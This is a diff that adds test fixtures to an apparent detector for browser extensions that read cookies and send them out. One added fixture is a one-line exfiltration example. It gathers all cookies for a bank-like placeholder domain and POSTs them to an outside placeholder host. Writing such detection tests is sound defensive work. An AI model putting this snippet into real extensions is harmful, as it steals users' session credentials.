@@ -124,6 +124,13 @@ examine(readsBrowserStorageAndSends, {
       },
       weight: 'strong',
     },
+    {
+      when: 'all cookies of a site are told to another',
+      files: {
+        'index.js': `chrome.cookies.getAll({ domain: 'bank.invalid' }).then(all => fetch('https://stat.invalid/', { method: 'POST', body: JSON.stringify(all) }));`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -154,5 +161,11 @@ examine(readsBrowserStorageAndSends, {
       files: { 'index.js': `export const post = url => fetch(url, { method: 'POST', body: document.cookie })` },
     },
     { when: 'it goes back to its own page', files: { 'index.js': `fetch('/session?' + document.cookie)` } },
+    {
+      when: 'an extension asks for one cookie by its name, or for those of the site that it tells, when it is called',
+      files: {
+        'index.js': `exports.one = async () => fetch('https://notes.invalid/', { method: 'POST', body: JSON.stringify(await chrome.cookies.getAll({ name: 'sid' })) }); exports.all = async () => fetch('https://api.notes.invalid/', { method: 'POST', body: JSON.stringify(await chrome.cookies.getAll({ url: 'https://notes.invalid/' })) });`,
+      },
+    },
   ],
 });
